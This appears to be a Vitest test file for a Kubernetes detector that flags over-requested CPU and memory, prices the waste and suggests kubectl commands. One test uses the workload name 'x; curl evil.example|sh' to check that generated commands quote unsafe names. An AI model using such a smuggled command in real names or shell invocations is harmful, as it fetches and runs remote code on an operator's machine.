import { describe, expect, it } from 'vitest';
import { aContainer, aNode, aPod } from '../../../../test/support/cost.ts';
import { DetectorRun } from '../../../../test/support/detect.ts';
import type { ContainerSample, Snapshot } from '../../../model/snapshot.ts';
import { DAY_MS, HOUR_MS, type TimeMs } from '../../../model/time.ts';
import { adviseContainer } from '../advice/containerAdvice.ts';
import { noObjects } from '../../../model/clusterObjects.ts';
import { aHistory, anAdviceContext } from '../../../../test/support/rightsize/advice.ts';
import { overprovisionedDetector, knownDays } from './overprovisionedDetector.ts';
import type { RightsizeState } from './state.ts';

const START = Date.UTC(2026, 10, 2);
const WINDOW = HOUR_MS / 4;
const MIB = 2 ** 20;
const PRICE = {
  cpuCoreHour: 0.03,
  ramGiBHour: 0.004,
  gpuHour: 0,
  source: 'flat' as const,
  reason: '',
  coverage: 1,
};

/** Four pods of `web`; by default each asks for 1 core and 1 GiB and uses 0.1 and 200 MiB. */
function play(
  days: number,
  sample: (time: TimeMs, pod: number) => Partial<ContainerSample>,
  objects: Snapshot['objects'] = null,
  workload = { kind: 'Deployment', name: 'web' },
  nodes: Readonly<Record<string, typeof PRICE>> = { n1: PRICE },
) {
  const names = Object.keys(nodes);
  const run = new DetectorRun<RightsizeState>(overprovisionedDetector, { historyStart: START });
  for (let time = START; time < START + days * DAY_MS; time += WINDOW) {
    const pods = [0, 1, 2, 3].map((pod) =>
      aPod({
        name: `web-${pod}`,
        uid: `uid-${pod}`,
        namespace: 'shop',
        node: names[pod % names.length]!,
        workload,
        containers: [
          aContainer({
            name: 'app',
            cpuRequestCores: 1,
            cpuUsageCores: 0.1,
            ramRequestBytes: 1024 * MIB,
            ramPeakBytes: 200 * MIB,
            runShare: 1,
            ...sample(time, pod),
          }),
        ],
      }),
    );
    const cluster = { pods, nodes: names.map((name) => aNode({ name })), objects };
    run.window(time, time + WINDOW, {}, cluster, (name) => nodes[name] ?? PRICE);
  }
  return run;
}

describe('overprovisioned', () => {
  it('prices what is wasted on every node at that node’s price, whichever pod comes first', () => {
    const dear = { ...PRICE, cpuCoreHour: 0.05, ramGiBHour: 0.006 };
    const cheap = { ...PRICE, cpuCoreHour: 0.01, ramGiBHour: 0.002 };
    const costOn = (nodes: Readonly<Record<string, typeof PRICE>>) =>
      play(6.5, () => ({}), null, undefined, nodes).opened[0]?.verdict.costPerMonth;
    const even = costOn({ n1: PRICE });
    expect(even).toBeGreaterThan(0);
    // The mean of both is the price of the one.
    expect(costOn({ n1: dear, n2: cheap })).toBeCloseTo(even ?? 0, 6);
    expect(costOn({ n1: cheap, n2: dear })).toBeCloseTo(even ?? 0, 6);
  });

  it('opens after three days of data and three days of waste, with money and commands', () => {
    const run = play(7, () => ({}));
    expect(run.opened.map(({ at }) => at)).toEqual([START + 6 * DAY_MS]);
    // 4 × (1 − 0.12) cores × 0.03 and 4 × (1024 − 230) MiB × 0.004 a GiB, × 730 hours.
    const money = 730 * 4 * (0.88 * 0.03 + (794 / 1024) * 0.004);
    expect(run.opened[0]?.verdict.costPerMonth).toBeCloseTo(money, 6);
    expect(run.opened[0]?.verdict).toMatchObject({
      severity: 'info',
      startedAt: START + 3 * DAY_MS,
      scope: { namespace: 'shop', container: 'app' },
    });
    expect(run.opened[0]?.verdict.next.map(({ command }) => command)).toEqual([
      'burnwatch recommend --namespace shop -o patch',
      'kubectl -n shop set resources deployment/web -c app --requests=cpu=120m,memory=230Mi',
    ]);
  });

  it('says nothing of a resource that is not requested', () => {
    const { opened } = play(6.5, () => ({ ramRequestBytes: 0 }));
    expect(opened[0]?.verdict.summary).not.toContain('memory');
    expect(opened[0]?.verdict.evidence.map(({ signal }) => signal)).toEqual(['cpu-request']);
  });

  it.each([
    [
      'Deployment',
      "kubectl -n shop set resources 'deployment/x; curl evil.example|sh' -c app --requests=cpu=120m,memory=230Mi",
    ],
    ['constructor', undefined],
  ])('quotes names that the API server does not check, of an owner of kind %s', (kind, command) => {
    const run = play(7, () => ({}), null, { kind, name: 'x; curl evil.example|sh' });
    expect(run.opened[0]?.verdict.next[1]?.command).toBe(command);
  });

  it('starts anew when the waste pauses before it is due', () => {
    const pause = START + 5 * DAY_MS;
    const run = play(9, (time) => ({
      cpuRequestCores: time >= pause && time < pause + HOUR_MS ? 0.12 : 1,
      ramRequestBytes: 240 * MIB,
    }));
    expect(run.opened.map(({ at }) => at)).toEqual([pause + 2 * HOUR_MS + 3 * DAY_MS]);
  });

  it('stays open until the request is within a quarter of the proposal', () => {
    const at = (day: number) => START + day * DAY_MS;
    const run = play(9, (time) => ({
      ramRequestBytes: 240 * MIB,
      // 0.12 is proposed: 0.17 is over by less than half, 0.149 by less than a quarter.
      cpuRequestCores: time < at(7) ? 1 : time < at(8) ? 0.17 : 0.149,
    }));
    expect(run.opened).toHaveLength(1);
    expect(run.closed.map((closed) => closed.at)).toEqual([at(8) + HOUR_MS]);
  });

  it.each([
    ['by less than half', { cpuRequestCores: 0.17, ramRequestBytes: 300 * MIB }],
    ['below the floors of waste', { cpuRequestCores: 0.18, ramRequestBytes: 240 * MIB }],
    ['where use is unknown', { cpuUsageCores: null, ramPeakBytes: null }],
    ['where nothing is requested', { cpuRequestCores: null, ramRequestBytes: null }],
    ['where a limit holds use back', { throttledShare: 0.9, ramRequestBytes: 240 * MIB }],
  ])('says nothing %s', (_, sample) => {
    expect(play(8, () => sample).opened).toEqual([]);
  });

  it('says nothing of what the busiest hour of the week, or an OOM kill, needed', () => {
    const busy = (time: TimeMs) => (time - START) % (7 * DAY_MS) < HOUR_MS;
    const weekly = play(15, (time) => ({
      ramRequestBytes: 240 * MIB,
      cpuUsageCores: busy(time) ? 0.8 : 0.1,
    }));
    // Before a second week nobody can know; then it closes.
    expect(weekly.opened.map(({ at }) => at)).toEqual([START + 6 * DAY_MS]);
    expect(weekly.closed.map(({ at }) => at)).toEqual([START + 7 * DAY_MS + HOUR_MS]);
    const killed = play(8, (time) => ({
      cpuRequestCores: 0.12,
      ...(time === START + DAY_MS && {
        restarts: 1,
        lastTerminatedReason: 'OOMKilled',
        ramLimitBytes: 1024 * MIB,
      }),
    }));
    expect(killed.opened).toEqual([]);
  });

  it('leaves to an autoscaler what it scales by', () => {
    const autoscaler = {
      namespace: 'shop',
      name: 'web',
      target: { kind: 'Deployment', name: 'web' },
      minReplicas: 4,
      maxReplicas: 10,
      currentReplicas: 4,
      targets: [{ resource: 'cpu', container: null, percent: 60 }],
      otherMetrics: [],
      scaledObject: null,
    };
    const objects = { ...noObjects(0), autoscalers: [autoscaler] };
    expect(play(8, () => ({ ramRequestBytes: 240 * MIB }), objects).opened).toEqual([]);
  });

  it('proposes what `recommend` does from the same days', () => {
    const run = play(8, (_, pod) => ({ cpuUsageCores: pod === 0 ? 0.4 : 0.1 }));
    const state = {
      get: (key: string) => run.rows.get(key),
      set: () => undefined,
      delete: () => undefined,
      entries: () => run.rows,
    };
    const [key] = [...run.rows.keys()].filter((each) => each.endsWith('#day'));
    const days = knownDays(state, (key ?? '').replace('#day', ''));
    const advice = adviseContainer(aHistory(days), anAdviceContext(days, { windowMs: WINDOW }));
    expect(advice?.proposed.cpuRequestCores).toBe(0.46);
    expect(run.opened[0]?.verdict.evidence[0]?.threshold).toBe(0.46);
  });
});
